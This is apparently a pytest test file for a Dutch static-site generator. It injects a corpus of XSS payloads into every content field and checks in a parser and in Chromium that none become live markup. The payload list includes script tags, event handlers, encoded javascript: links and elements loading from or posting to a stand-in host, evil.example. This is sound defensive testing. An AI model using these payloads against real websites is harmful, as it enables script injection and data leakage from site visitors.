"""Hostile strings in every kind of field never reach a page as live markup or a live URL.

A corpus of payloads (script tags, event handlers, javascript:/vbscript:/data: links in link,
image and autolink syntax, svg/iframe/object, attribute-breaking quotes, entities and mixed
case) is placed in every field an editor can write. Two checks:

- the rendered HTML, parsed with html.parser: no foreign <script>, no on* attribute, no
  javascript:/vbscript:/data: URL, nothing loaded from another host, no frames or objects;
- Chromium, on a full build holding every payload at once (with the Content-Security-Policy
  bypassed, so the escaping itself is what is tested): a payload that ran would open a
  dialog or make a request to another host; the test records both and expects none.
"""

from __future__ import annotations

import functools
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from conftest import run_cli, write_tree
from sitecheck import launch, serve
from ivpsite.build import check, load_site
from ivpsite.problems import Problems
from ivpsite.render.pages import render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    '"><script>alert(5)</script>',
    "<img src=x onerror=alert(6)>",
    "<IMG SRC=x OnErRoR=alert(7)>",
    "<svg onload=alert(8)>",
    "<svg><script>alert(9)</script></svg>",
    '<iframe src="javascript:alert(10)"></iframe>',
    '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
    '<object data="javascript:alert(12)"></object>',
    '<embed src="data:text/html,<script>alert(13)</script>">',
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>",
    '<a href="javascript:alert(16)">klik</a>',
    '<a href="&#x6A;avascript:alert(17)">klik</a>',
    "[klik](javascript:alert(18))",
    "[klik](JaVaScRiPt:alert(19))",
    "[klik](javascript&#58;alert(20))",
    "[klik](&#106;avascript:alert(21))",
    "[klik](jav&#x09;ascript:alert(22))",
    "[klik]( javascript:alert(23))",
    "[klik](<javascript:alert(24)>)",
    "[klik](vbscript:msgbox(25))",
    "[klik](VBScript:MsgBox(26))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4=)",
    "[klik](DATA:text/html,<script>alert(28)</script>)",
    "![plaatje](javascript:alert(29))",
    "![plaatje](https://evil.example/pixel-30.png)",
    "![plaatje](//evil.example/pixel-31.png)",
    "[![plaatje](https://evil.example/pixel-32.png)](https://example.org/)",
    "<javascript:alert(33)>",
    "<vbscript:msgbox(34)>",
    "<data:text/html,alert(35)>",
    '<https://example.org/"onmouseover="alert(36)>',
    '[klik](https://example.org/ "titel\\" onmouseover=\\"alert(37)")',
    "[klik](https://example.org/ 'a' onmouseover='alert(38)')",
    "[klik][ref]\n\n[ref]: javascript:alert(39)",
    '[klik][ref]\n\n[ref]: https://example.org/ "x\\" onclick=\\"alert(40)"',
    '" onmouseover="alert(41)',
    "' onmouseover='alert(42)",
    "&lt;script&gt;alert(43)&lt;/script&gt;",
    "&#60;script&#62;alert(44)&#60;/script&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(45)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(46)">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x-48.css>",
    '<form action="https://evil.example/49"><button>x</button></form>',
    "<style>@import 'https://evil.example/x-50.css';</style>",
    '<div style="background:url(https://evil.example/x-51.png)">x</div>',
    "`<script>alert(52)</script>`",
    "Tekst[^1]\n\n[^1]: <script>alert(53)</script>",
    "\u202e<script>alert(54)</script>",
    "{{ 7*7 }} {% raw %}alert(55){% endraw %}",
    "<x-tag onclick=alert(56)>x</x-tag>",
    "<a href=\"  javascript:alert(57)\">klik</a>",
]

# Attributes whose value the browser fetches or navigates to.
URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href",
             "srcset", "cite", "ping", "manifest", "codebase", "lowsrc", "longdesc", "srcdoc"}
# Attributes that make the browser load something without a click.
LOADING = {"src", "data", "poster", "background", "srcset", "lowsrc", "manifest", "codebase"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "math",
                  "template", "x-tag", "body-payload"}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):")


def normalised(url: str) -> str:
    """A URL as a browser reads its scheme: leading controls/spaces and tab/newline dropped."""
    return re.sub(r"[\t\n\r]", "", url).lstrip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                                 "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b"
                                                 "\x1c\x1d\x1e\x1f ").lower()


def foreign(url: str) -> bool:
    """Would a browser load `url` from somewhere other than this site?"""
    url = normalised(url).replace("\\", "/")
    return url.startswith("//") or bool(re.match(r"^[a-z][a-z0-9+.-]*:", url))


class _Findings(HTMLParser):
    def __init__(self, page: str, site_files: set[str] | None) -> None:
        super().__init__(convert_charrefs=True)
        self.page, self.site_files, self.found = page, site_files, []
        self._in: str | None = None

    def bad(self, what: str) -> None:
        self.found.append(f"{self.page}:{self.getpos()[0]}: {what}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self._in = tag
        if tag in FORBIDDEN_TAGS:
            self.bad(f"<{tag}> in the page")
        if tag == "script":
            kind = values.get("type", "")
            if "src" in values:
                if foreign(values["src"]):
                    self.bad(f"script from elsewhere: {values['src']!r}")
            elif kind not in ("application/json", "application/ld+json"):
                self.bad("inline executable <script>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.bad("meta refresh")
        if tag == "link" and foreign(values.get("href", "")) and values.get("rel") not in ("canonical", "alternate"):
            self.bad(f"<link> loading from elsewhere: {values.get('href')!r}")
        if tag == "style":
            self.bad("<style> element in the page")
        for name, value in values.items():
            if name.startswith("on"):
                self.bad(f"event handler attribute {name}={value!r} on <{tag}>")
            if name in URL_ATTRS and BAD_SCHEME.match(normalised(value)):
                self.bad(f"{name}={value!r} on <{tag}>")
            if name in LOADING and tag != "script" and foreign(value):
                self.bad(f"<{tag} {name}={value!r}> loads from elsewhere")
            if name == "style" and "url(" in value.lower():
                self.bad(f"style attribute with url(): {value!r}")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self._in = None

    def handle_data(self, data: str) -> None:
        # Data blocks (<script type="application/json">) hold payloads as escaped JSON; a
        # raw '<' there could close the element early (</script>) or open a comment.
        if self._in == "script" and "<" in data:
            self.bad(f"unescaped '<' inside a script element: {data[:80]!r}")


def html_findings(page: str, html: str) -> list[str]:
    parser = _Findings(page, None)
    parser.feed(html)
    parser.close()
    findings = parser.found
    survived = re.search(r"<(script|img|svg|iframe)\b[^>]*\balert\(", html, re.I)
    if survived:
        findings.append(f"{page}: a payload tag survived: {survived.group(0)!r}")
    return findings


# --- the synthetic site that holds a payload in every field ----------------------------


class _NoAliases(yaml.SafeDumper):
    """Writes a list that occurs twice in full (ivpsite refuses YAML aliases)."""

    def ignore_aliases(self, data: object) -> bool:
        return True


def site_files(groups: list[list[str]], bodies: list[list[str]] | None = None,
               inline: list[list[str]] | None = None) -> dict[str, str]:
    """A valid site where organisation i holds the payloads of group i in every field it
    has: each payload gets its own priority and theme; the indicator, comparison, section
    and topic of the group hold the group's payloads together. The shared fields (site,
    safety field, free page) hold all payloads. `bodies` are the Markdown bodies per group,
    `inline` the payloads the inline Markdown fields (goals, actions, ...) hold per group
    (default: the group itself); the others hold plain text there. Written with
    yaml.safe_dump, so payloads arrive verbatim."""
    everything = " | ".join(p for group in groups for p in group)
    bodies = groups if bodies is None else bodies
    inline = groups if inline is None else inline
    dump = functools.partial(yaml.dump, Dumper=_NoAliases, allow_unicode=True, sort_keys=False, width=1000)
    files = {
        "site.yaml": dump({"title": everything, "description": everything,
                           "base_url": "https://example.org/", "publisher": everything}),
        "topics.yaml": dump({
            "fields": [{"id": "veld", "label": everything, "description": everything}],
            "topics": [{"id": f"onderwerp-{i}", "label": " | ".join(g), "field": "veld", "synonyms": g}
                       for i, g in enumerate(groups)],
        }),
        "pages/over.md": "---\n" + dump({"title": everything, "description": everything}) + "---\n"
                         + ("\n\n".join(p for b in bodies for p in b) or "Over deze site.") + "\n",
    }
    for i, group in enumerate(groups):
        org, topic, all_of = f"org-{i}", f"onderwerp-{i}", " | ".join(group)
        md = functools.partial(lambda allowed, p: p if p in allowed else "Gewone tekst.", inline[i])
        files[f"{org}/organisation.yaml"] = dump({
            "name": all_of, "kind": "gemeente", "cbs_code": None, "province": all_of, "notes": group,
            "missing": {"cbs_code": all_of}})
        files[f"{org}/plan/plan.yaml"] = dump({
            "title": all_of, "kind": "integraal-veiligheidsplan", "status": "geldend",
            "period": {"start": 2023, "end": 2026},
            "adoption": {"by": all_of, "date": None, "as_written": all_of, "missing": {"date": all_of}},
            "validity": None,
            "source": {"title": all_of, "kind": "regeling", "publisher": all_of, "date": None,
                       "document": all_of, "url": "https://example.org/bron", "missing": {"date": all_of}},
            "summary": all_of, "topics": [topic], "editor_notes": group,
            "missing": {"validity": all_of},
            "priorities": [{"id": f"prio-{j}", "title": p, "other_names": [p], "topics": [topic],
                            "summary": md(p), "subthemes": [p], "goals": [md(p), "Gewoon doel."],
                            "actions": [md(p)], "section": "sectie"} for j, p in enumerate(group)],
            "themes": [{"id": f"thema-{j}", "title": p, "topics": [topic], "summary": p, "approach": [md(p)],
                        "related_policy": [p], "section": "sectie"} for j, p in enumerate(group)],
            "indicators": [{"id": "indicator", "name": all_of, "unit": "aantal", "source": all_of,
                            "direction": "lager-is-beter", "baseline": {"value": 10, "year": 2022},
                            "target": {"comparator": "<=", "value": 5, "year": 2026},
                            "measurements": [{"year": 2023, "value": 8}], "topics": [topic],
                            "notes": group}],
            "comparisons": [{"id": "vergelijking", "title": all_of, "unit": "procent", "year": 2022,
                             "topics": [topic], "notes": group,
                             "areas": [{"area": p, "value": 10 + j} for j, p in enumerate(group)]
                             + [{"area": "Nederland", "value": 12}]}],
        })
        files[f"{org}/plan/01-sectie.md"] = ("---\n" + dump({"title": all_of, "topics": [topic],
                                                              "source_ref": all_of})
                                             + "---\n" + ("\n\n".join(bodies[i]) or "Tekst.") + "\n")
    return files


def build_in_process(root: Path) -> tuple[dict[str, bytes] | None, list[str]]:
    problems = Problems()
    site = load_site(root, problems)
    if site is None:
        return None, [str(p) for p in problems.sorted()]
    return render(site), []


def scan(files: dict[str, bytes]) -> list[str]:
    findings = []
    for name, data in sorted(files.items()):
        if name.endswith(".html"):
            findings += html_findings(name, data.decode("utf-8"))
    return findings


# --- the checker itself must be able to fail -------------------------------------------


def test_checker_flags_live_payloads():
    for bad in ["<script>alert(1)</script>", '<a href="JAVASCRIPT:x">', '<img src=x onerror="x">',
                '<a href=" &#x6A;avascript:x">', '<img src="//evil.example/x.png">', "<iframe>",
                '<a href="data:text/html,x">', '<svg><a xlink:href="javascript:x"></a></svg>']:
        assert html_findings("t.html", bad), bad
    assert not html_findings("t.html", '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'
                                       '<a href="https://example.org/" title="&quot; onclick=x">x</a>')


def test_corpus_is_big_enough():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


# --- every payload in every field -----------------------------------------------------


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, list[str]]]:
    """Payloads that validation refuses in a Markdown body ('body') and in the inline
    Markdown fields ('inline'), with the messages it gave."""
    base = tmp_path_factory.mktemp("probe")
    found: dict[str, dict[str, list[str]]] = {"body": {}, "inline": {}}
    for i, p in enumerate(PAYLOADS):
        for where, files in (("body", site_files([[p]], inline=[[]])), ("inline", site_files([[p]], bodies=[[]]))):
            problems = Problems()
            if check(write_tree(base / f"{where}-{i}", files), problems) is None:
                found[where][p] = [str(m) for m in problems.sorted()]
    return found


def hostile_files(refused: dict[str, dict[str, list[str]]], size: int = 1) -> dict[str, str]:
    """Every payload in every field, `size` payloads per organisation; the bodies and the
    inline Markdown fields hold every payload that validation accepts there."""
    groups = [PAYLOADS[i:i + size] for i in range(0, len(PAYLOADS), size)]
    return site_files(groups, [[p for p in g if p not in refused["body"]] for g in groups],
                      [[p for p in g if p not in refused["inline"]] for g in groups])


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory, refused) -> dict[str, bytes]:
    root = write_tree(tmp_path_factory.mktemp("hostile-render") / "content", hostile_files(refused))
    files, problems = build_in_process(root)
    assert files is not None, problems
    return files


def test_refusals_are_located_and_only_for_markdown(refused):
    # Refusing is fine, but only for Markdown (links and images are checked there, in the
    # bodies and in the inline fields alike) and only with located Dutch messages.
    assert refused["body"] and refused["inline"], "expected validation to refuse at least the images"
    places = {"body": r"(pages/over\.md|org-0/plan/01-sectie\.md)", "inline": r"org-0/plan/plan\.yaml"}
    for where, found in refused.items():
        for payload, problems in found.items():
            assert problems and all(re.match(rf"^{places[where]}:\d+:\d+: \S", m) for m in problems), \
                (where, payload, problems)
    # The same link rules in both places: what a body refuses, an inline field refuses too.
    assert set(refused["body"]) <= set(refused["inline"])
    # Only link, image, reference and autolink syntax is refused, and in an inline field
    # block syntax (here the footnote); plain text never is.
    assert all(re.search(r"!\[|\]\(|\]: |<[a-zA-Z]+:", p) for p in refused["inline"]), list(refused["inline"])


@pytest.mark.parametrize("i", range(len(PAYLOADS)), ids=[f"p{i:02d}" for i in range(len(PAYLOADS))])
def test_payload_in_every_field_stays_inert(rendered, i):
    mine = {name: data for name, data in rendered.items()
            if name.startswith((f"org-{i}/", f"onderwerpen/onderwerp-{i}/"))}
    assert f"org-{i}/plan/index.html" in mine and f"org-{i}/plan/sectie/index.html" in mine, sorted(mine)
    findings = scan(mine)
    assert not findings, findings
    # The payload is shown to the reader as text (it was not silently dropped).
    if "alert(" in PAYLOADS[i]:
        assert "alert(" in rendered[f"org-{i}/plan/index.html"].decode()


def test_shared_fields_stay_inert(rendered):
    findings = scan(rendered)
    assert not findings, findings[:20]
    assert "alert(" in rendered["index.html"].decode()  # the site title, as text


def test_payload_in_unit_is_refused_with_a_located_message(tmp_path):
    files = site_files([PAYLOADS[:1]])
    files["org-0/plan/plan.yaml"] = files["org-0/plan/plan.yaml"].replace("unit: aantal", "unit: '<script>'")
    _, problems = build_in_process(write_tree(tmp_path / "content", files))
    assert any(m.startswith("org-0/plan/plan.yaml:") and "'unit' verwacht een van" in m for m in problems), problems


# --- all payloads at once, in a full build, in Chromium --------------------------------


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory, refused) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    # Ten payloads per organisation keeps the number of pages for Chromium small.
    content = write_tree(base / "content", hostile_files(refused, size=10))
    out = base / "build"
    result = run_cli("build", "--content", str(content), "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


def test_full_build_html_is_inert(hostile_build):
    files = {p.relative_to(hostile_build).as_posix(): p.read_bytes()
             for p in hostile_build.rglob("*.html")}
    assert len(files) > 20
    findings = scan(files)
    assert not findings, findings[:20]


def browse(folder: Path, extra: tuple[str, ...] = ()) -> tuple[list[str], list[str], list[str]]:
    """Load every page of `folder` in Chromium (CSP bypassed); the dialogs that opened, the
    requests to other hosts, and live markup (on* attributes, script URLs, frames) in the DOM."""
    from playwright.sync_api import sync_playwright

    pages = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.html")) + list(extra)
    dialogs: list[str] = []
    foreign_requests: list[str] = []
    live: list[str] = []
    with serve(folder) as origin, sync_playwright() as pw:
        browser = launch(pw)
        # The CSP would stop an injected script on its own; bypass it so the test shows
        # that nothing is injected in the first place.
        context = browser.new_context(bypass_csp=True)

        def route(request_route) -> None:  # noqa: ANN001
            url = request_route.request.url
            if url.startswith((origin, "data:", "blob:", "about:")):
                request_route.continue_()
            else:
                foreign_requests.append(url)
                request_route.abort()

        context.route("**/*", route)
        page = context.new_page()
        current = [""]

        def on_dialog(dialog) -> None:  # noqa: ANN001
            dialogs.append(f"{current[0]}: {dialog.type} {dialog.message!r}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        for rel in pages:
            current[0] = rel
            page.goto(origin + rel, wait_until="load")
            page.wait_for_timeout(50)  # let deferred scripts (charts, search) run
            # Markup that scripts added at run time (charts, search) is checked too.
            live += [f"{rel}: {x}" for x in page.evaluate("""() => {
                const bad = [];
                for (const el of document.querySelectorAll('*')) {
                    for (const a of el.attributes) {
                        const v = a.value.replace(/[\\t\\n\\r]/g, '').trim().toLowerCase();
                        if (a.name.startsWith('on')) bad.push(el.tagName + ' ' + a.name);
                        if (/^(javascript|vbscript|data):/.test(v)
                            && ['href', 'src', 'action', 'data', 'formaction', 'xlink:href'].includes(a.name))
                            bad.push(el.tagName + ' ' + a.name + '=' + a.value);
                    }
                    if (['IFRAME', 'OBJECT', 'EMBED', 'BASE'].includes(el.tagName)) bad.push(el.tagName);
                }
                return bad;
            }""")]
        browser.close()
    return dialogs, foreign_requests, live


@pytest.mark.browser
def test_browser_check_catches_a_live_payload(tmp_path):
    (tmp_path / "index.html").write_text(
        '<!doctype html><title>x</title><img src="x" onerror="alert(1)">'
        '<img src="https://evil.example/p.png"><a href="javascript:alert(2)">a</a>', encoding="utf-8")
    dialogs, foreign_requests, live = browse(tmp_path)
    assert dialogs and foreign_requests and live


def test_no_payload_runs_in_chromium(hostile_build):
    # The search page renders results from the index at run time: search for the payloads.
    dialogs, foreign_requests, live = browse(hostile_build, extra=("zoeken/?q=alert", "zoeken/?q=script"))
    assert not dialogs, dialogs
    assert not foreign_requests, foreign_requests
    assert not live, live[:20]
